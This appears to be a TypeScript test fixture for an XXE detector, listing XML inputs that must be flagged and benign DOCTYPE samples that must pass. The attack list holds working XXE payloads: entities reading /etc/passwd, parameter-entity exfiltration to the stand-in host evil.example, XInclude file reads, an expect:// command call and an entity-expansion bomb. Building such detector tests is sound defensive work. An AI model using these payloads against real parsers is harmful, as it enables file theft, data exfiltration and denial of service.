import { specifyFamily } from "../../support/exact-rules.ts";

specifyFamily("xxe", {
  attacks: {
    "entities from elsewhere": [
      '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      '<!DOCTYPE a [<!ENTITY x PUBLIC "any" "file:///etc/passwd">]><a>&x;</a>',
      '<!DOCTYPE a [<!ENTITY x SYSTEM "C:\\windows\\win.ini">]>',
      '<!doctype foo [<!entity x system "netdoc:///etc/passwd">]>',
      '<!NOTATION x SYSTEM "file:///etc/passwd">',
    ],
    "parameter entities": [
      '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/a.dtd">%x;]>',
      `<!ENTITY % a "<!ENTITY &#x25; b SYSTEM 'http://evil.example/?%file;'>">`,
      '<!DOCTYPE x [ <!ENTITY % y SYSTEM "//y.example/y"> %y; ]><x/>',
    ],
    "document types from elsewhere, and by data URLs": [
      '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
      '<!DOCTYPE a PUBLIC "x" "http://evil.example/a.dtd"><a/>',
      `<!DOCTYPE a SYSTEM "data:text/xml,<!ENTITY x 'y'>"><a/>`,
      '<!DOCTYPE a [<!ENTITY % d SYSTEM "data://text/plain;base64,PCE=">%d;]>',
    ],
    "inclusions": [
      '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>',
      '<xi:include href="http://evil.example/x"/>',
      '<image xlink:href="expect://id"/>',
    ],
    "encodings that hide a declaration": [
      '<?xml version="1.0" encoding="UTF-7"?><a/>',
      '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]>',
      "%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E",
    ],
    "entities that grow": [
      '<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
    ],
  },
  harmless: {
    "documents with a document type": [
      "<!DOCTYPE html><html><body>Hi</body></html>",
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
      '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
      '<!DOCTYPE note SYSTEM "note.dtd">',
      '<!DOCTYPE fontconfig SYSTEM "../fonts.dtd"><fontconfig/>',
      '<!DOCTYPE catalog PUBLIC "-//OASIS//DTD XML Catalogs V1.0//EN" "file:///usr/share/xml/xml-core/catalog.dtd">',
      "<!DOCTYPE busconfig PUBLIC",
      "<!DOCTYPE note [<!ELEMENT note (to,from)><!ELEMENT to (#PCDATA)>]>",
    ],
    "plain XML": [
      '<?xml version="1.0" encoding="UTF-8"?><note><to>Anna</to></note>',
      '<?xml version="1.0" encoding="UTF-16"?><a/>',
      '<image xlink:href="logo.png"/>',
    ],
  },
});
